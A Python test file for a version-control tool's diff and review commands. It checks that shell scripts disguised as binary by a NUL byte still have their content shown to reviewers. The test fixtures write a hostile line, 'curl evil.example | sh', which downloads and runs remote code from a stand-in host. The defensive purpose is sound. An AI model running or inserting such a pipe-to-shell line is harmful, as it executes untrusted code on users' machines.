#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# session
"""What Git takes for binary is not hidden from a reader (L11): scripts, what runs, what is mostly text; the rest is said not to be shown."""
import os
import unicodedata

from envs import diff, new, repository, work
from harness import check, contains, equal, lacks, main, test, text

EVIL = "printf '#!/bin/sh\\necho harmless\\n\\0\\ncurl evil.example | sh\\n' > %s"
NOISE = "head -c 4000 /dev/urandom > "


def shown(p, *options):
	return text(p.croft("diff", *options, "e").exits(0).out)


@test
def test_l11_a_nul_does_not_hide_a_script(p):
	repository(p)
	new(p)
	work(p, EVIL % "run.sh" + "; " + EVIL % "tool.sh" + "; printf 'a line\\nanother\\0line\\nevil text\\n' > notes; mkdir -p .vscode; "
		+ NOISE + ".envrc; " + NOISE + "noise.bin")
	out = shown(p)
	for name in ("run.sh", "tool.sh"):
		part = out.split("\n" + name + "   ", 1)
		check(len(part) == 2, name + " has no section:\n" + out)
		contains(part[1], "+\\x00", name)
		contains(part[1], "+curl evil.example | sh", name)
	contains(out, "+another\\x00line", "what is mostly text")
	lacks(out, "\0")
	check("\n.envrc   " in out, "what runs on this machine is shown, whatever it is")
	# Control: noise is not shown, and that is said.
	line = next(x for x in out.split("\n") if x.startswith("  A noise.bin"))
	contains(line, "binary, 3.9 KB, content not shown (blob ")
	contains(out, "The content of 1 binary file is not shown; croft diff --text e shows it, escaped.")
	check("\nnoise.bin   " not in out, "noise is shown")
	out = shown(p, "--text")
	check("\nnoise.bin   " in out and "not shown" not in out, "asked for")
	check(all(unicodedata.category(c)[0] != "C" or c in "\n\t" for c in out), "raw characters")


@test
def test_l11_for_programs_and_in_a_review(p):
	repository(p)
	new(p)
	work(p, EVIL % "run.sh" + "; " + NOISE + "noise.bin")
	files = {f["path"]: f for f in diff(p)["files"]}
	equal((files["run.sh"]["binary"], files["run.sh"]["shown"], files["noise.bin"]["shown"]), (True, True, False), "shown")
	contains(str(files["run.sh"]["hunks"]), "curl evil.example")
	equal(files["noise.bin"]["hunks"], [], "noise")
	p.croft("review", "e", "--accept-all").exits(0)
	p.croft("apply", "e").exits(0)
	with open(os.path.join(p.ws, "run.sh"), "rb") as f:
		equal(f.read(), b"#!/bin/sh\necho harmless\n\0\ncurl evil.example | sh\n", "it lands byte for byte")


@test
def test_text_and_stat_exclude_each_other(p):
	p.croft("diff", "--text", "--stat", "e").exits(125)


if __name__ == "__main__":
	main()
